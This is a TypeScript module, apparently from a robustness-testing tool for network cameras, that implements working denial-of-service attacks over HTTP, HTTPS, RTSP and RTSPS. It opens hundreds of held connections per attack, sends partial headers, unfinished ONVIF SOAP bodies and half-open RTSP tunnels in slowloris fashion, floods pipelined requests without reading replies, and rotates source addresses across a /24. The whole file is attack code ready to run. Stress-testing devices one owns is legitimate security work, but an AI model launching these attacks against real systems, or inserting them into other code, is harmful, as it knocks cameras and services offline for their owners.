import type { Socket } from 'node:net';
import { type Attack, strands, type Victim } from '../attack.ts';
import { dial, post } from '../raw.ts';

type Door = 'http' | 'https' | 'rtsp' | 'rtsps';

/** Addresses of the attacker's own /24: the last byte changes. */
const spread = (address: string, index: number): string => address.replace(/\d+$/, String(1 + (index % 250)));

/** Keeps many connections that say nothing, or the beginning of a request; those that are closed are opened again. */
function holding(name: string, door: Door, count: number, first: string): Attack {
  return {
    name,
    about: 'A3: connections that are held',
    run: async (victim: Victim, address, signal) => {
      const open = new Set<Socket>();
      await strands(count, signal, async (strand) => {
        const socket = await dial(victim.host, victim[door], spread(address, strand), door.endsWith('s'));
        socket.setTimeout(0);
        open.add(socket);
        if (first !== '') socket.write(first);
        await new Promise<void>((resolve) => {
          socket.once('close', () => resolve());
          signal.addEventListener('abort', () => socket.destroy(), { once: true });
        });
        open.delete(socket);
        await new Promise((resolve) => setTimeout(resolve, 50));
      });
      for (const socket of open) socket.destroy();
    },
  };
}

/** Writes requests without end and reads no answer. */
function pipelining(name: string, door: Door, request: (victim: Victim) => string): Attack {
  return {
    name,
    about: 'A3: pipelining',
    run: (victim, address, signal) => {
      const many = request(victim).repeat(200);
      return strands(20, signal, async (strand) => {
        const socket = await dial(victim.host, victim[door], spread(address, strand));
        socket.pause();
        const stop = (): void => void socket.destroy();
        signal.addEventListener('abort', stop, { once: true });
        while (!socket.destroyed) {
          if (!socket.write(many)) {
            await new Promise<void>((resolve) => {
              socket.once('drain', () => resolve());
              socket.once('close', () => resolve());
            });
          }
        }
        signal.removeEventListener('abort', stop);
      });
    },
  };
}

const soap =
  '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>' +
  '<GetServices xmlns="http://www.onvif.org/ver10/device/wsdl"><IncludeCapability>true</IncludeCapability></GetServices>' +
  '</s:Body></s:Envelope>';

export const connections: readonly Attack[] = [
  holding('silent-rtsp', 'rtsp', 700, ''),
  holding('silent-rtsps', 'rtsps', 300, ''),
  holding('silent-web', 'http', 700, ''),
  holding('slow-heads-web', 'http', 400, 'POST /onvif/device_service HTTP/1.1\r\nHost: x\r\nX-'),
  holding('slow-heads-rtsp', 'rtsp', 400, 'DESCRIBE rtsp://x/y RTSP/1.0\r\nX-'),
  holding('unfinished-bodies', 'http', 400, `${post('/onvif/device_service', ' '.repeat(1000)).slice(0, -900)}`),
  holding(
    'half-tunnels',
    'http',
    400,
    'GET /Profile1 HTTP/1.1\r\nHost: x\r\nx-sessioncookie: attack\r\nAccept: application/x-rtsp-tunnelled\r\n\r\n',
  ),
  pipelining('pipelining-web', 'http', () => post('/onvif/device_service', soap)),
  pipelining('pipelining-rtsp', 'rtsp', () => 'OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n'),
];
